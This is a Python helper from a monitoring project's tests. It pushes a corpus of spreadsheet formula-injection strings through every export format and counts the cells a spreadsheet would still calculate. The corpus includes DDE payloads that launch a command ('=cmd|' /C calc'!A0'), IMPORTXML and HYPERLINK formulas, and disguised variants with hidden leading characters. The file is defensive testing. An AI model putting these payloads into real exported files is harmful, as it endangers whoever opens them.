"""Texts that some spreadsheet would calculate, through every file that leaves the house, and what of them is live.

Holds no test; `python tests/exports` prints the count of live formulas in each file.
"""

import csv
from datetime import date
from pathlib import Path

import polars
from openpyxl import load_workbook

from monitoring.domain.results_framework import Actual, Group, Level, Line, ResultsFramework
from monitoring.exports.framework_workbook import as_workbook
from monitoring.exports.labelled_files import LABELLED_FILES
from monitoring.exports.pack import write_rows, write_table, write_variables
from monitoring.exports.row_files import ROW_FILES
from monitoring.exports.variables import Variable, VariableKind

CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("http://example.org","x")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    '"=1+1',
    "https://example.org/=1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "plain\n=1+1",
    "plain\r=1+1",
    "plain;=1+1",
    "=1+1;plain",
]
PLAIN = ["plain", "1-2", "a=b", "48+", ""]
COLUMNS = (Variable("said", "Said", VariableKind.TEXT),)
FIRST = tuple("=+-@＝＋－＠\t\r\n")
UNSEEN = " \u00a0\ufeff"
"""Before a formula some programs leave these away."""


def write_all(folder: Path) -> None:
    """The corpus as rows in each format, as labels of variables, in a small table, and in the results framework."""
    texts = CORPUS + PLAIN
    rows = polars.DataFrame({"said": texts})
    write_rows(folder, "rows", [*ROW_FILES, *LABELLED_FILES], COLUMNS, [rows])
    write_table(folder, "table.csv", ("said",), [(text,) for text in texts])
    labelled = [Variable(f"v{at}", text, VariableKind.CODE, {"a": text}) for at, text in enumerate(texts)]
    write_variables(folder, labelled, {})
    (folder / "framework.xlsx").write_bytes(as_workbook(_framework(texts)))


def live_cells(path: Path) -> int | None:
    """How many cells a spreadsheet program would calculate or follow; None for a format that is no spreadsheet."""
    if path.suffix == ".csv":
        with path.open(newline="", encoding="utf-8") as file:
            return sum(_is_live(cell) for row in csv.reader(file) for cell in row)
    if path.suffix == ".xlsx":
        book = load_workbook(path)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        return sum(cell.data_type == "f" or cell.hyperlink is not None for cell in cells)
    return None


def _is_live(cell: str) -> bool:
    """Also where a line of the cell would be taken for a row of its own."""
    lines = cell.replace("\r", "\n").split("\n")
    return any(line.lstrip(UNSEEN).startswith(FIRST) for line in lines)


def _framework(texts: list[str]) -> ResultsFramework:
    day = date(2026, 3, 31)
    lines = tuple(
        Line(
            "housing_secure", {"en": text}, {"en": text}, Level.OUTCOME, True, True, Actual(text=text), day, group=each
        )
        for text in texts
        for each in (None, Group("gender", "x", text, text))
    )
    basis = tuple((text, text) for text in texts)
    return ResultsFramework("en", "All", 1, day, basis, lines, tuple(texts), "results")
